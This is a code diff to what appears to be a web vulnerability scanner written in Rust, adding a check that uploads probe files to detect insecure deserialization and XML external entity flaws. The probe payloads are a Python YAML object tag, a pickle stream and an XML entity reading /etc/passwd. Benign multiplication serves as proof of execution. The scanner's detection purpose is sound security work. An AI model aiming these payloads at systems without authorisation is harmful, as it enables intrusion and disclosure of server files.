@@ -272,6 +272,7 @@ async fn inject(ctx: &Ctx<'_>, e: &Endpoint, all: &[Endpoint], oob: Option<&Oob<
     for p in &e.params {
         if p.loc == Loc::File {
             upload(ctx, e, p).await?;
+            uploaded_content(ctx, e, p).await?;
             continue;
         }
         if !matches!(p.loc, Loc::QueryName | Loc::HeaderName) {
@@ -320,6 +321,84 @@ async fn deserialization(ctx: &Ctx<'_>, e: &Endpoint, p: &Param) -> Step<()> {
         proof: "`{payload}` (pickle or YAML calling operator.mul) came back as {product}",
     };
     product_probe(ctx, e, p, a * b, &payloads, &finding).await?;
+    Ok(())
+}
+
+/// Files whose content the app parses: a YAML or pickle file that only multiplies, and an
+/// XML file with an external entity for `/etc/passwd`. The answer to the upload tells.
+async fn uploaded_content(ctx: &Ctx<'_>, e: &Endpoint, p: &Param) -> Step<()> {
+    let (a, b) = factors();
+    let product = (a * b).to_string();
+    let pickle = format!("coperator\nmul\n(I{a}\nI{b}\ntR.").into_bytes();
+    let files: [(&str, &str, Vec<u8>, &'static str); 3] = [
+        (
+            "data.yaml",
+            "application/x-yaml",
+            format!("!!python/object/apply:operator.mul [{a}, {b}]\n").into_bytes(),
+            "FG643",
+        ),
+        ("data.pkl", "application/octet-stream", pickle, "FG643"),
+        (
+            "data.xml",
+            "application/xml",
+            b"<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>\n<r>&x;</r>\n".to_vec(),
+            "FG626",
+        ),
+    ];
+    let fields: Vec<(String, String)> = e
+        .params
+        .iter()
+        .filter(|q| q.loc == Loc::Form)
+        .map(|q| (q.name.clone(), q.sample.clone()))
+        .chain(e.form_fields.iter().cloned())
+        .collect();
+    for (file, ctype, data, code) in files {
+        let req = Request::new(&e.method, ctx.client.url(&e.path_with(None))).multipart(
+            &fields,
+            &[(p.name.clone(), file.to_string(), ctype.to_string(), data)],
+        );
+        let Some(resp) = send(ctx, req).await? else {
+            return Ok(());
+        };
+        let body = resp.text();
+        let (hit, message, proof) = if code == "FG626" {
+            (
+                shows_passwd(&body),
+                format!(
+                    "XXE: an uploaded XML file ({}) resolves external entities",
+                    param_label(p)
+                ),
+                "an uploaded XML file's `file:///etc/passwd` entity was expanded into the response"
+                    .to_string(),
+            )
+        } else {
+            (
+                body.contains(&product),
+                format!(
+                    "Insecure deserialization: an uploaded file ({}) is loaded into Python objects",
+                    param_label(p)
+                ),
+                format!("`{file}` calling operator.mul({a}, {b}) came back as {product}"),
+            )
+        };
+        if hit {
+            report(
+                ctx,
+                code,
+                if code == "FG626" {
+                    Severity::High
+                } else {
+                    Severity::Critical
+                },
+                e,
+                Some(p),
+                message,
+                &resp,
+                &proof,
+                None,
+            );
+        }
+    }
     Ok(())
 }
 
